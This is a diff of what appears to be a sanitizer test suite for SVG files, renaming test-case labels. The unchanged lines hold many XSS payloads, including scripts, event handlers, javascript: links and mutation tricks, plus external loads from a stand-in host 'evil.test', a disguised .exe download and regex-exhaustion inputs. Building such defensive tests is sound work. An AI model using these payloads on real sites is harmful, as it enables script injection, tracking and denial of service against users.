@@ -35,15 +35,15 @@ const scripts = group('script', {
   entities: svg('<script>&#97;lert(1)</script>'),
   typed: svg('<script type="application/ecmascript">alert(1)</script>'),
   module: svg('<script type="module">alert(1)</script>'),
-  'from elsewhere': svg(`<script href="${EVIL}/x.js"/>`),
-  'from elsewhere by xlink': svg(`<script xlink:href="${EVIL}/x.js"/>`),
+  'from another host': svg(`<script href="${EVIL}/x.js"/>`),
+  'from another host by xlink': svg(`<script xlink:href="${EVIL}/x.js"/>`),
   'in a data address': svg('<script href="data:text/javascript,alert(1)"/>'),
   'in a data address by xlink': svg(
     `<script xlink:href="data:text/javascript;base64,${base64('alert(1)')}"/>`,
   ),
-  'behind another prefix': svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
+  'with another prefix': svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
   'of XHTML': svg(`<script ${HTML}>alert(1)</script>`),
-  'of XHTML behind a prefix': svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
+  'of XHTML with a prefix': svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
   'in defs': svg('<defs><script>alert(1)</script></defs>'),
   'in a symbol that is used': svg('<symbol id="s"><script>alert(1)</script></symbol><use href="#s"/>'),
   'in a dropped element': svg('<metadata><script>alert(1)</script></metadata>'),
@@ -82,17 +82,17 @@ const handlers = group('handler', {
   'onbegin of an animation': svg('<animate attributeName="x" dur="1s" onbegin="alert(1)" onend="alert(1)"/>'),
   'onend of a set': svg('<set attributeName="x" to="1" dur="0.1s" onend="alert(1)" onbegin="alert(1)"/>'),
   'in capitals': svg('<g ONLOAD="alert(1)" OnClick="alert(1)"/>'),
-  'with a line break before the sign': svg('<g onload\n=\n"alert(1)"/>'),
+  'with a line break before the equals sign': svg('<g onload\n=\n"alert(1)"/>'),
   'with entities': svg('<g onload="&#x61;lert&#40;1)"/>', 'onload="&#97;lert(1)"'),
-  autofocused: svg(
+  'onfocus with autofocus': svg(
     '<g tabindex="1" autofocus="" onfocus="alert(1)"/>',
     'tabindex="1" autofocus="" onfocus="alert(1)"',
   ),
-  'in the namespace of events': svg(
+  'in the XML Events namespace': svg(
     '<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="#h" ev:onclick="alert(1)"/>',
   ),
   'of a dropped link': svg(`<a href="#" onclick="alert(1)">${SHAPE}</a>`),
-  'on a namespace alias': `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="alert(1)"><s:rect width="9" height="9" onclick="alert(1)"/></s:svg>`,
+  'with a prefix for SVG': `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="alert(1)"><s:rect width="9" height="9" onclick="alert(1)"/></s:svg>`,
 });
 
 const foreign = group('foreign content', {
@@ -190,8 +190,8 @@ const mutations = group('mutation', {
   'keyframes that end early': svg(
     '<style>@keyframes a{&lt;/style>&lt;img src=x:x onerror=alert(1)>{to{x:1}}}</style><g style="animation:a 1s"/>',
   ),
-  'entity twice escaped': svg('<text>&amp;lt;img src=x:x onerror=alert(1)&amp;gt;</text>'),
-  'namespace that changes below': svg(
+  'doubly escaped entity': svg('<text>&amp;lt;img src=x:x onerror=alert(1)&amp;gt;</text>'),
+  'namespace that changes in a child': svg(
     `<g xmlns="http://www.w3.org/1999/xhtml"><img src="x:x" onerror="alert(1)"/></g>`,
   ),
   'prefix svg for HTML': `<svg ${NS} xmlns:svg="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9">${SHAPE}<svg:img src="x:x" onerror="alert(1)"/></svg>`,
@@ -201,12 +201,14 @@ const links = group('link', {
   'to a script': svg(`<a href="${JS}">${SHAPE}</a>`),
   'to a script by xlink': svg(`<a xlink:href="${JS}">${SHAPE}</a>`),
   'to a script with a tab inside': svg(`<a href="java&#9;script:alert(1)">${SHAPE}</a>`),
-  'to a script with a control before': svg(`<a href=" &#10;javascript:alert(1)">${SHAPE}</a>`),
+  'to a script after a control character': svg(`<a href=" &#10;javascript:alert(1)">${SHAPE}</a>`),
   'to a script in capitals': svg(`<a href="JaVaScRiPt:alert(1)">${SHAPE}</a>`),
   'to a script with entities': svg(`<a href="&#106;avascript&#58;alert(1)">${SHAPE}</a>`),
   'to a page': svg(`<a href="${EVIL}/page">${SHAPE}</a>`),
   'to a page in another window': svg(`<a href="${EVIL}/page" target="_blank" rel="opener">${SHAPE}</a>`),
-  'to a page on top': svg(`<a xlink:href="${EVIL}/page" target="_top" xlink:show="replace">${SHAPE}</a>`),
+  'to a page in the top window': svg(
+    `<a xlink:href="${EVIL}/page" target="_top" xlink:show="replace">${SHAPE}</a>`,
+  ),
   'to a data page': svg(`<a href="data:text/html,&lt;script>alert(1)&lt;/script>">${SHAPE}</a>`),
   'to a vbscript': svg(`<a href="vbscript:msgbox(1)">${SHAPE}</a>`),
   'that downloads': svg(`<a href="${EVIL}/x.exe" download="x.exe">${SHAPE}</a>`),
@@ -232,7 +234,7 @@ const loads = group('load', {
   'image of an SVG in a data address': svg(
     `<image href="data:image/svg+xml;base64,${base64(`<svg ${NS} onload="alert(1)"/>`)}" width="9" height="9"/>`,
   ),
-  'picture with a script behind it': svg(
+  'picture followed by a script': svg(
     `<image href="data:image/gif;base64,${base64('GIF89a/*\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;*/=1;alert(1)</script><script>alert(1)</script>')}" width="9" height="9"/>`,
   ),
   'picture with a script as its type': svg(
@@ -254,7 +256,7 @@ const loads = group('load', {
   'filter picture of itself': svg(
     '<filter id="f"><feImage href="#r"/></filter><rect id="r" width="9" height="9" filter="url(#f)"/>',
   ),
-  'picture with everything that an HTML image has': svg(
+  'image with all attributes of an HTML img': svg(
     `<image href="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=" srcset="${EVIL}/i.png 2x" onload="alert(1)" onerror="alert(1)" crossorigin="anonymous" style="content:url(${EVIL}/c.png)" width="9" height="9"/>`,
   ),
   'animated address of a picture': svg(
@@ -318,10 +320,10 @@ const styles = group('style', {
   import: svg(`<style>@import url(${EVIL}/s.css);</style>`),
   'import of a string': svg(`<style>@import "${EVIL}/s.css";</style>`),
   'import with escapes': svg(String.raw`<style>@\69mport "http://evil.test/s.css";</style>`),
-  'import in a comment trick': svg(`<style>/**/@import/**/"${EVIL}/s.css";</style>`),
+  'import hidden by comments': svg(`<style>/**/@import/**/"${EVIL}/s.css";</style>`),
   'import in CDATA': svg(`<style><![CDATA[@import "${EVIL}/s.css";]]></style>`),
   'import after an escaped brace': svg(String.raw`<style>a\{}@import "http://evil.test/s.css";</style>`),
-  'background of everything': svg(`<style>*{background:url(${EVIL}/b.png)}</style>`),
+  'background of all elements': svg(`<style>*{background:url(${EVIL}/b.png)}</style>`),
   'background of the page': svg(`<style>body,html{background:url(${EVIL}/b.png)!important}</style>`),
   'background with escapes': svg(String.raw`<style>*{background:u\72l(http://evil.test/b.png)}</style>`),
   'image set': svg(`<style>*{background-image:image-set("${EVIL}/b.png" 1x)}</style>`),
@@ -390,7 +392,7 @@ const styles = group('style', {
   ),
   'page-wide size': svg('', 'style="width:9999px;height:9999px;min-width:9999px"'),
   'caught clicks': svg('<rect width="24" height="24" style="pointer-events:all;cursor:pointer;opacity:0"/>'),
-  'style attribute on everything by a sheet': svg(
+  'style sheet that styles all elements': svg(
     '<style>body{visibility:hidden}.icon{fill:red}html{font-size:0}</style>',
   ),
   'unclosed sheet': svg(`<style>rect{fill:red;background:url(${EVIL}/u.png</style>`),
@@ -437,10 +439,10 @@ const animations = group('animation', {
   'with a prefix for xlink': svg(
     `<a xmlns:y="http://www.w3.org/1999/xlink">${SHAPE}<set attributeName="y:href" to="${JS}"/></a>`,
   ),
-  'of a paint from elsewhere': svg(
+  'of a paint from another host': svg(
     `<rect width="9" height="9"><animate attributeName="fill" values="red;url(${EVIL}/p.svg#x)" dur="1s" repeatCount="indefinite"/></rect>`,
   ),
-  'set to a paint from elsewhere': svg(
+  'set to a paint from another host': svg(
     `<rect width="9" height="9"><set attributeName="fill" to="url(${EVIL}/p.svg#x)"/></rect>`,
   ),
   'of an element of the page': svg(
@@ -688,22 +690,22 @@ const exhaustions = group('exhaustion', {
   'long timing list': svg(
     `<rect width="9" height="9"><set attributeName="fill" to="red" begin="${'1s;'.repeat(5_000)}"/></rect>`,
   ),
-  'hard for patterns: colors': svg(
+  'slow for regular expressions: colors': svg(
     `<rect fill="rgb(${' '.repeat(15_000)}" stroke="${'a'.repeat(15_000)}!"/>`,
   ),
-  'hard for patterns: urls': svg(
+  'slow for regular expressions: urls': svg(
     `<rect fill="${'url( '.repeat(3_000)}" filter="${'blur( '.repeat(2_000)}"/>`,
   ),
-  'hard for patterns: transforms': svg(
+  'slow for regular expressions: transforms': svg(
     `<g transform="${'rotate(1'.repeat(2_000)}" style="transform:${'translate(1)'.repeat(1_000)}!"/>`,
   ),
-  'hard for patterns: numbers': svg(
+  'slow for regular expressions: numbers': svg(
     `<rect x="${'1 '.repeat(8_000)}!" stroke-dasharray="${'1,'.repeat(8_000)}!" width="${'1'.repeat(16_000)}!"/>`,
   ),
-  'hard for patterns: timing': svg(
+  'slow for regular expressions: timing': svg(
     `<rect width="9" height="9"><set attributeName="x" to="1" begin="${'a'.repeat(16_000)}" end="${'1:'.repeat(8_000)}"/></rect>`,
   ),
-  'hard for patterns: animations': svg(
+  'slow for regular expressions: animations': svg(
     `<rect width="9" height="9" style="animation:${'steps('.repeat(2_500)}"/><rect style="animation:${'a,'.repeat(8_000)}"/>`,
   ),
 });
